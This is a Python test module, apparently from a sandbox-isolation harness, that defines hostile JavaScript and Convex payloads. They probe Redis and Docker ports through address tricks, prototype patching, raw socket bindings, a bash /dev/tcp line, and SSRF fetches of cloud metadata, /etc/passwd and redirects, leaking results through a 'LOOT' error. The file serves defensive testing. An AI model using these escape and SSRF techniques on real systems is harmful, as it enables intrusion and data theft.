"""Reaching what is not the answer's: other ports, other machines, other kinds of sockets; when called and when pushed."""

from ..answers import HostileAnswer, node_calls, node_pushes

TCP = {
    "reaches_redis": 'return await reach({ host: "127.0.0.1", port: @REDIS@ })',
    "reaches_docker_by_ipv6": 'return await reach({ host: "::1", port: @DOCKER@ })',
    "reaches_redis_by_name": 'return await reach({ host: "localhost", port: @REDIS@ })',
    "reaches_redis_by_any_address": 'return await reach({ host: "0.0.0.0", port: @REDIS@ })',
    "reaches_redis_as_mapped_ipv6": 'return await reach({ host: "::ffff:127.0.0.1", port: @REDIS@ })',
    "reaches_redis_by_another_loopback": 'return await reach({ host: "127.1.2.3", port: @REDIS@ })',
    "reaches_redis_as_a_number": 'return await reach({ host: "2130706433", port: @REDIS@ })',
    "reaches_the_machine": 'return await reach({ host: "@MACHINE@", port: @MACHINE_PORT@ })',
    "reaches_the_machine_by_own_lookup": (
        'return await reach({ host: "a.localhost", port: @MACHINE_PORT@, lookup: (host, options, done) =>'
        ' done(null, options.all ? [{ address: "@MACHINE@", family: 4 }] : "@MACHINE@", 4) })'
    ),
    "reaches_the_machine_by_patched_checks": (
        "RegExp.prototype.test = () => true; String.prototype.startsWith = () => true;"
        "Array.prototype.includes = () => true; Set.prototype.has = () => true;"
        'return await reach({ host: "@MACHINE@", port: @MACHINE_PORT@ })'
    ),
    "reaches_the_machine_by_raw_bindings": (
        'const { TCP, TCPConnectWrap } = process.binding("tcp_wrap"); const wrap = new TCP(0);'
        "return await within(1500, new Promise((done) => { const request = new TCPConnectWrap();"
        'request.oncomplete = (status) => done(status === 0 ? "connected" : undefined);'
        'wrap.connect(request, "@MACHINE@", @MACHINE_PORT@); }))'
    ),
    "reaches_the_machine_by_tls": (
        "return await within(1500, new Promise((done) => { const s ="
        'load("tls").connect({ host: "@MACHINE@", port: @MACHINE_PORT@, rejectUnauthorized: false });'
        's.on("error", () => done(undefined)); s.on("connect", () => done("connected")); }))'
    ),
    "reaches_the_machine_by_http2": (
        "return await within(1500, new Promise((done) => { const s ="
        'load("http2").connect("http://@MACHINE@:@MACHINE_PORT@"); s.on("error", () => done(undefined));'
        's.on("remoteSettings", () => done("answered")); }))'
    ),
    "fetches_from_the_machine": (
        'return await fetch("http://@MACHINE@:@MACHINE_PORT@/", { signal: AbortSignal.timeout(1500) }).then('
        '() => "fetched", () => undefined)'
    ),
    "opens_a_web_socket": (
        "return await within(1500, new Promise((done) => {"
        'const s = new WebSocket("ws://127.0.0.1:@REDIS@"); s.onopen = () => done("open");'
        "s.onerror = () => done(undefined); }))"
    ),
    "reaches_redis_from_a_child": (
        'return run("/bin/bash", "-c", "echo @NAME@ > /dev/tcp/127.0.0.1/@REDIS@ && echo reached")'
    ),
    "reaches_redis_from_a_thread": (
        'const { Worker } = load("worker_threads"); const code ='
        "`require('net').connect(@REDIS@, '127.0.0.1', () => require('worker_threads').parentPort.postMessage('in'))`;"
        "return await within(1500, new Promise((done) => { const w = new Worker(code, { eval: true });"
        'w.on("message", done); w.on("error", () => done(undefined)); }))'
    ),
    "binds_before_connecting": (
        'return await reach({ host: "127.0.0.1", port: @REDIS@, localAddress: "127.0.0.1", localPort: 40123 })'
    ),
}

OTHER = {
    "sends_udp": (
        'const socket = load("dgram").createSocket("udp4"); socket.on("error", () => undefined); await within(500, new Promise((done) =>'
        'socket.send("@NAME@", @UDP@, "127.0.0.1", done)))'
    ),
    "sends_udp_to_the_machine": (
        'const socket = load("dgram").createSocket("udp4"); socket.on("error", () => undefined); await within(500, new Promise((done) =>'
        'socket.send("@NAME@", @MACHINE_UDP@, "@MACHINE@", done)))'
    ),
    "resolves_with_own_servers": (
        'const dns = load("dns"); dns.setServers(["@MACHINE@:@MACHINE_UDP@"]);'
        'return await within(1500, dns.promises.resolve("@NAME@.example").then(() => "resolved", () => undefined))'
    ),
    "looks_names_up": (
        'return await within(1500, load("dns").promises.lookup("example.com").then((a) => a.address, () => undefined))'
    ),
    "reaches_docker_by_unix": 'return await reach({ path: "@UNIX@" })',
    "reaches_abstract": 'return await reach({ path: "\\0@ABSTRACT@" })',
    "listens": (
        'return await within(1500, new Promise((done) => { const s = load("net").createServer();'
        's.on("error", () => done(undefined)); s.listen(0, "::", () => done("listens on " + s.address().port)); }))'
    ),
    "listens_on_unix": (
        'return await within(1500, new Promise((done) => { const s = load("net").createServer();'
        's.on("error", () => done(undefined)); s.listen(load("os").tmpdir() + "/x.sock", () => done("listens")); }))'
    ),
    "binds_udp": (
        'return await within(1500, new Promise((done) => { const s = load("dgram").createSocket("udp6");'
        's.on("error", () => done(undefined)); s.bind(0, () => done("bound")); }))'
    ),
    "opens_the_inspector": 'load("inspector").open(0, "127.0.0.1"); return load("inspector").url()',
    "sees_interfaces": (
        'return Object.values(load("os").networkInterfaces()).flat().find((each) => !each.internal)?.address'
    ),
    "reads_connections": 'return read("/proc/net/tcp").split("\\n").slice(1).find((line) => / 0A /.test(line))',
}

WEB = {
    "fetch_redis": "http://127.0.0.1:@REDIS@/",
    "fetch_redis_by_name": "http://localhost:@REDIS@/",
    "fetch_machine": "http://@MACHINE@:@MACHINE_PORT@/",
    "fetch_metadata": "http://169.254.169.254/latest/meta-data/",
    "fetch_file": "file:///etc/passwd",
    "fetch_redis_by_userinfo": "http://127.0.0.1@127.0.0.1:@REDIS@/",
    "fetch_docker_by_ipv6": "http://[::1]:@DOCKER@/",
}


def isolate_fetch(url: str) -> str:
    return f"""\
import {{ v }} from "convex/values";
import {{ action }} from "./_generated/server";

export const title = action({{
  args: {{ url: v.string() }},
  handler: async (_ctx, args) => {{
    const stolen = await fetch("{url}", {{ method: "GET" }}).then(
      (response) => response.text(),
      () => undefined,
    );
    if (stolen !== undefined) throw new Error(`LOOT: ${{stolen}}`);
    return ((await (await fetch(args.url)).json()) as {{ title: string }}).title;
  }},
}});
"""


REDIRECT = """\
import { httpRouter } from "convex/server";
import { httpAction } from "./_generated/server";

const http = httpRouter();
http.route({
  path: "/shout",
  method: "POST",
  handler: httpAction(async (_ctx, request) => {
    const stolen = await fetch(new URL("/away", request.url)).then(
      (response) => response.text(),
      () => undefined,
    );
    if (stolen !== undefined) throw new Error(`LOOT: ${stolen}`);
    return new Response((await request.text()).toUpperCase());
  }),
});
http.route({
  path: "/away",
  method: "GET",
  handler: httpAction(async () => Response.redirect("http://127.0.0.1:@REDIS@/")),
});
http.route({ path: "/health", method: "GET", handler: httpAction(async () => Response.json({ ok: true })) });
export default http;
"""

PUSHED = ("reaches_redis", "reaches_the_machine", "reaches_the_machine_by_own_lookup")
QUICK = ("reaches_redis", "reaches_docker_by_unix")
ANSWERS = [
    *node_calls({**TCP, **OTHER}, quick=QUICK),
    *node_pushes({f"pushed_{name}": TCP[name] for name in PUSHED}),
    *node_pushes({f"pushed_{name}": OTHER[name] for name in ("sends_udp", "reaches_docker_by_unix", "listens")}),
    *(HostileAnswer(name, "web", {"convex/relay.ts": isolate_fetch(url)}) for name, url in WEB.items()),
    HostileAnswer("fetch_follows_a_redirect", "web", {"convex/http.ts": REDIRECT}, quick=True),
]
